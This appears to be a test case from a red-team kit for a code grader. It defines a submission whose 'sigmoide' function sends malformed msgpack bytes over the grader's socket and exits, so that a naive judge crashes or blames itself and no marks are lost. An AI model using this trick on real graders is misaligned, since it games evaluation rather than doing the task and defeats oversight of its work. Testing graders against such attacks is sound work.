"""Answer with bytes that are no message, and leave.

Would gain: a judge that stumbles over them loses the whole class, or calls it a fault of its own, which costs no marks.
"""

import msgspec

from ..kit import FIND, Attack

RAW = b"\x03\x00\x00\x00" + b"\x00" * 8 + b"\xc1\xc1\xc1"


def naive() -> bool:
    """A judge that decodes without expecting the worst ends with an exception of its own."""
    try:
        msgspec.msgpack.decode(RAW[12:])
    except msgspec.DecodeError:
        return True
    return False


CELL = FIND + f"def sigmoide(z):\n    server.sock.sendall({RAW!r})\n    os._exit(0)\n"
ATTACK = Attack({"sigmoide": CELL}, off=naive)
